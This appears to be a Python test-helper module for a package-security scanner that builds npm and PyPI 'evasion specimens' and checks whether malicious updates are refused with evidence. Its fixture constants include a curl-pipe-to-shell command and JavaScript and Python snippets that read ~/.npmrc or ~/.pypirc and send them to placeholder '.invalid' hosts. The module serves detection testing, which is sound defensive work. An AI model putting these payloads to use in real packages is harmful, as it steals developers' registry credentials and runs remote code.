"""What a specimen of evasion is, and whether an answer counts: refused, with evidence at what the update changed.

Every specimen is inert text: hosts are under ``.invalid``, and nothing here is ever executed.
"""

from collections.abc import Iterator, Mapping
from typing import Any, cast

from msgspec import Struct, field

from lazaretto.app.analyse import Analyser, Analysis, Question
from lazaretto.core.finding import Evidence, Example
from lazaretto.core.policy import Outcome
from lazaretto.infra.engine import InlineEngine
from tests.examples import World, app, build_world, rules

PAD = "module.exports = (a) => a;\n"
"""What every JavaScript specimen was before."""

COMMAND = "curl -s https://stage.invalid/x | sh"
STEAL = (
    "const token = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
    "fetch('https://collect.invalid/in', { method: 'POST', body: token });\n"
)
PY_STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.invalid/in', data=open(os.path.expanduser('~/.pypirc'), 'rb').read())\n"
)

Files = Mapping[str, str | bytes]


class Specimen(Struct, frozen=True, kw_only=True):
    """One evasion: an old release, and a new one that hides something. ``missed`` says why it is not held, if so.

    ``unread``: no client can run it as it stands, and that it is not understood is reason enough. ``woken`` names
    files that the update does not change but puts to work: they count as new.
    """

    row: str
    title: str
    after: Files
    before: Files = field(default_factory=dict)
    ecosystem: str = "npm"
    sdist: bool = False
    world: Mapping[str, Any] = field(default_factory=dict)
    missed: str = ""
    unread: bool = False
    woken: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        """What the test is called."""
        return f"{self.row}: {self.title}"


def npm(
    row: str, title: str, code: str, files: Files | None = None, *, missed: str = "", unread: bool = False
) -> Specimen:
    """Return a specimen whose entry file gains code before what it always said; ``files`` are added besides."""
    after = {"index.js": code + PAD, **(files or {})}
    return Specimen(row=row, title=title, before={"index.js": PAD}, after=after, missed=missed, unread=unread)


def pypi(
    row: str, title: str, code: str, files: Files | None = None, *, missed: str = "", unread: bool = False
) -> Specimen:
    """Return a specimen whose package gains code that runs when it is imported."""
    before = {"pad/__init__.py": "WIDTH = 2\n"}
    after = {"pad/__init__.py": code + "WIDTH = 2\n", **(files or {})}
    return Specimen(row=row, title=title, before=before, after=after, ecosystem="pypi", missed=missed, unread=unread)


def ask(specimen: Specimen) -> Analysis:
    """Put the question about the newer release."""
    whole = specimen.ecosystem == "npm" or specimen.sdist
    after, before = (files if whole else _wheel(files, v) for files, v in ((specimen.after, 1), (specimen.before, 0)))
    example = Example(
        title=specimen.title,
        after=cast("Mapping[str, str]", after),  # the world takes bytes as well
        before=cast("Mapping[str, str]", before) if specimen.before else None,
        ecosystem=specimen.ecosystem,
        sdist=specimen.sdist,
        world=specimen.world,
    )
    world, name, version, now = build_world(example)
    analyser = Analyser(world.ecosystem, world, _Engine(world), rules(), now)
    return analyser.release(Question(world.ecosystem.name(name), world.ecosystem.version(version)))


class _Engine:
    """Trees as they are, read as the product reads them: with the parts inside files."""

    def __init__(self, world: World) -> None:
        self.unpack, self.unpack_many = world.unpack, world.unpack_many
        self.read = InlineEngine(app().languages).read


def _wheel(files: Files, patch: int) -> Files:
    """Return the files of a wheel with the metadata that every wheel has."""
    folder = f"example_package-1.0.{patch}.dist-info"
    return {
        **files,
        f"{folder}/METADATA": f"Metadata-Version: 2.1\nName: example-package\nVersion: 1.0.{patch}\n",
        f"{folder}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{folder}/RECORD": "".join(
            f"{path},,\n" for path in (*files, *(f"{folder}/{name}" for name in ("METADATA", "WHEEL", "RECORD")))
        ),
    }


def refused(specimen: Specimen, analysis: Analysis) -> bool:
    """Whether the release is held for cause, with evidence at a line that is new in it."""
    held = analysis.outcome is not Outcome.ALLOW
    if specimen.unread:
        return held and not analysis.complete
    return held and analysis.verdict.for_cause and any(_is_new(specimen, place) for place in evidence(analysis))


def evidence(analysis: Analysis) -> Iterator[Evidence]:
    """Yield every place that a finding about the release names."""
    for record in analysis.records.values():
        for finding in record.findings:
            yield from finding.evidence


def told(analysis: Analysis) -> str:
    """Say what was found, for the message of a failed test."""
    found = [
        f"{one.detector}/{one.variant} at {one.evidence[0].path}:{one.evidence[0].line}"
        for record in analysis.records.values()
        for one in record.findings
    ]
    problems = [problem for record in analysis.records.values() for problem in record.problems]
    return f"{analysis.outcome.word} {analysis.verdict.charge.total:g} dB: {found} {problems}"


def _is_new(specimen: Specimen, place: Evidence) -> bool:
    if place.path in specimen.woken:
        return True
    new, old = (_lines(files.get(place.path, "")) for files in (specimen.after, specimen.before))
    return 0 < place.line <= len(new) and new[place.line - 1] not in old


def _lines(content: str | bytes) -> list[bytes]:
    return [line.strip() for line in (content.encode() if isinstance(content, str) else content).split(b"\n")]
